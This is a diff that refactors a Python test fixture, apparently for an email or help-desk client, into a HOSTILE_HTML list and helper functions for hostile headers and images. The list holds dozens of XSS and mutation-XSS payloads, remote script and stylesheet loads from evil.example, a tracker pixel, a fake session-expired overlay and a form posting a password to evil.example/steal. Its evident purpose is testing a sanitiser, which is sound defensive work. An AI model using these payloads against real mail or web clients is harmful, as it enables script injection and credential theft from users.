@@ -100,63 +100,65 @@ DISGUISED_SCRIPTS = [
 OUTSIDE_LINK = '<a href="https://www.registradores.org/ayuda">Ayuda del Colegio</a>'
 
 
-def hostile_messages() -> list[tuple[str, bytes]]:
-    """(name, raw message) of every hostile message; at least 40."""
-    html = [
-        ("script", "<script>window.pwned=1;alert('script')</script>"),
-        ("script-src", '<script src="https://evil.example/x.js"></script>'),
-        ("img-onerror", "<img src=x onerror=\"alert('img')\">"),
-        ("svg-onload", "<svg onload=\"alert('svg')\"><circle r=10></circle></svg>"),
-        ("svg-script", "<svg><script>alert('svg script')</script></svg>"),
-        ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'),
-        ("math-xlink", '<math><maction xlink:href="javascript:alert(1)">x</maction></math>'),
-        ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert('frame')</script>\"></iframe>"),
-        ("object-embed", '<object data="javascript:alert(1)"></object><embed src="x.svg">'),
-        ("body-onload", "<body onload=\"alert('body')\">cuerpo</body>"),
-        ("details-ontoggle", "<details open ontoggle=\"alert('details')\"><summary>x</summary>"),
-        ("input-autofocus", "<input autofocus onfocus=\"alert('input')\">"),
-        ("video-source", "<video><source onerror=\"alert('video')\"></video>"),
-        ("marquee", "<marquee onstart=\"alert('marquee')\">texto</marquee>"),
-        ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert('meta')\">"),
-        ("base-href", '<base href="https://evil.example/"><a href="x">relativo</a>'),
-        ("link-import", '<link rel=stylesheet href="https://evil.example/x.css">'),
-        (
-            "form-post",
-            '<form action="https://evil.example/steal" method=post><input name=password>'
-            '<button formaction="javascript:alert(1)">Entrar</button></form>',
-        ),
-        ("style-import", "<style>@import 'https://evil.example/x.css'; body{display:none}</style>"),
-        (
-            "overlay",
-            '<div style="position:fixed;inset:0;z-index:99999;background:#fff">'
-            "Sesión caducada: vuelva a entrar</div>",
-        ),
-        ("css-url", '<div style="background:url(javascript:alert(1))">fondo</div>'),
-        (
-            "mxss-noscript",
-            "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
-        ),
-        (
-            "mxss-mglyph",
-            "<math><mtext><table><mglyph><style><img src=x onerror=alert('mglyph')>",
-        ),
-        (
-            "mxss-svg-style",
-            "<svg></p><style><a id=\"</style><img src=1 onerror=alert('svgstyle')>\">",
-        ),
-        ("template", "<template><img src=x onerror=\"alert('template')\"></template>"),
-        ("textarea-breakout", "<textarea></textarea><script>alert('textarea')</script>"),
-        ("title-breakout", "</title><script>alert('title')</script>"),
-        ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
-        ("huge-image", '<img src="cid:nothing" width=5000 height=5000 alt="grande">'),
-        ("tracker", '<img src="https://tracker.example.net/pixel.gif" alt="pixel">'),
-        ("links-into-the-desk", "<p>" + "</p><p>".join(LINKS_INTO_THE_DESK) + "</p>"),
-        ("disguised-scripts", "<p>" + "</p><p>".join(DISGUISED_SCRIPTS) + "</p>"),
-        ("link-target-self", f'<a href="https://evil.example/" target="_self">{OUTSIDE_LINK}</a>'),
-        ("rtl-override", "<p>factura\u202efdp.exe</p>"),
-    ]
-    messages = [(name, _html(f"HTML {name}", body)) for name, body in html]
-    messages += [
+# (name, HTML body) of the hostile markup, each sent as a mail of its own.
+HOSTILE_HTML = [
+    ("script", "<script>window.pwned=1;alert('script')</script>"),
+    ("script-src", '<script src="https://evil.example/x.js"></script>'),
+    ("img-onerror", "<img src=x onerror=\"alert('img')\">"),
+    ("svg-onload", "<svg onload=\"alert('svg')\"><circle r=10></circle></svg>"),
+    ("svg-script", "<svg><script>alert('svg script')</script></svg>"),
+    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'),
+    ("math-xlink", '<math><maction xlink:href="javascript:alert(1)">x</maction></math>'),
+    ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert('frame')</script>\"></iframe>"),
+    ("object-embed", '<object data="javascript:alert(1)"></object><embed src="x.svg">'),
+    ("body-onload", "<body onload=\"alert('body')\">cuerpo</body>"),
+    ("details-ontoggle", "<details open ontoggle=\"alert('details')\"><summary>x</summary>"),
+    ("input-autofocus", "<input autofocus onfocus=\"alert('input')\">"),
+    ("video-source", "<video><source onerror=\"alert('video')\"></video>"),
+    ("marquee", "<marquee onstart=\"alert('marquee')\">texto</marquee>"),
+    ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert('meta')\">"),
+    ("base-href", '<base href="https://evil.example/"><a href="x">relativo</a>'),
+    ("link-import", '<link rel=stylesheet href="https://evil.example/x.css">'),
+    (
+        "form-post",
+        '<form action="https://evil.example/steal" method=post><input name=password>'
+        '<button formaction="javascript:alert(1)">Entrar</button></form>',
+    ),
+    ("style-import", "<style>@import 'https://evil.example/x.css'; body{display:none}</style>"),
+    (
+        "overlay",
+        '<div style="position:fixed;inset:0;z-index:99999;background:#fff">'
+        "Sesión caducada: vuelva a entrar</div>",
+    ),
+    ("css-url", '<div style="background:url(javascript:alert(1))">fondo</div>'),
+    (
+        "mxss-noscript",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
+    ),
+    (
+        "mxss-mglyph",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert('mglyph')>",
+    ),
+    (
+        "mxss-svg-style",
+        "<svg></p><style><a id=\"</style><img src=1 onerror=alert('svgstyle')>\">",
+    ),
+    ("template", "<template><img src=x onerror=\"alert('template')\"></template>"),
+    ("textarea-breakout", "<textarea></textarea><script>alert('textarea')</script>"),
+    ("title-breakout", "</title><script>alert('title')</script>"),
+    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
+    ("huge-image", '<img src="cid:nothing" width=5000 height=5000 alt="grande">'),
+    ("tracker", '<img src="https://tracker.example.net/pixel.gif" alt="pixel">'),
+    ("links-into-the-desk", "<p>" + "</p><p>".join(LINKS_INTO_THE_DESK) + "</p>"),
+    ("disguised-scripts", "<p>" + "</p><p>".join(DISGUISED_SCRIPTS) + "</p>"),
+    ("link-target-self", f'<a href="https://evil.example/" target="_self">{OUTSIDE_LINK}</a>'),
+    ("rtl-override", "<p>factura\u202efdp.exe</p>"),
+]
+
+
+def _hostile_headers_and_text() -> list[tuple[str, bytes]]:
+    """Hostile subject and sender, charsets and plain text that looks like HTML."""
+    return [
         (
             "subject-and-sender",
             _html(
@@ -191,6 +193,12 @@ def hostile_messages() -> list[tuple[str, bytes]]:
                 "Texto visible <script>alert('text')</script> <img src=x onerror=alert(1)>\n"
             ),
         ),
+    ]
+
+
+def _hostile_images() -> list[tuple[str, bytes]]:
+    """Image parts whose name, declared type or content lie."""
+    return [
         (
             "hostile-file-name",
             image_part(name="</script><img src=x onerror=alert('name')>.png", content=PNG),
@@ -220,4 +228,9 @@ def hostile_messages() -> list[tuple[str, bytes]]:
         ),
         ("real-png", image_part(name="captura.png", content=PNG, content_id="p2@example.com")),
     ]
-    return messages
+
+
+def hostile_messages() -> list[tuple[str, bytes]]:
+    """(name, raw message) of every hostile message; at least 40."""
+    html = [(name, _html(f"HTML {name}", body)) for name, body in HOSTILE_HTML]
+    return html + _hostile_headers_and_text() + _hostile_images()
